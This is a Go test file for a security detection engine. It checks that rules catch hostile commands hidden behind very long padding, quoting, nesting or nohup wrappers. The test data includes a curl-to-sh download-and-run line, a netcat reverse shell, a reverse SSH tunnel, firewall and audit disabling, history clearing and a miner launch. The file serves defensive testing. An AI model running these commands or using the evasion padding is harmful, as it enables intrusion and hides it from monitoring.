package rules_test

import (
	"slices"
	"strings"
	"testing"

	"github.com/tvilling/tvilling/internal/security/event"
)

// TestPadding hides commands behind and between a lot of nothing: what one
// command does is seen however long the line is that it stands in.
func TestPadding(t *testing.T) {
	e := engine(t)
	for detection, command := range map[string]string{
		"disabled-firewall": "ufw disable", "disabled-audit": "auditctl -e 0", "crypto-miner": "./xmrig -c c.json", "history-cleared": "history -c",
		"download-then-run": "curl http://203.0.113.7/a | sh", "malicious-download": "curl http://malware.test/a", "reverse-shell": "nc -e /bin/sh 203.0.113.7 4444",
		"port-forwarding": "ssh -N -R 2222:localhost:22 a@203.0.113.7",
	} {
		for how, line := range map[string]string{
			"behind":  "sh -c " + strings.Repeat("true; ", 5_000) + command,
			"quoted":  `sh -c "` + strings.Repeat("true && ", 5_000) + command + `"`,
			"before":  "sh -c " + command + strings.Repeat("; true", 5_000),
			"blanks":  "sh -c " + strings.Repeat(" ", 50_000) + command,
			"nested":  `sh -c 'env -i sh -c "` + command + `"'`,
			"wrapped": strings.Repeat("nohup ", 20) + `sh -c "` + command + `"`,
		} {
			item := &event.ProcessCreate{Executable: "/bin/sh", CommandLine: line, UserID: "0", UserName: "root"}
			if !slices.Contains(found(t, e, item), detection) {
				t.Errorf("%s does not find %q %s", detection, command, how)
			}
		}
	}
}
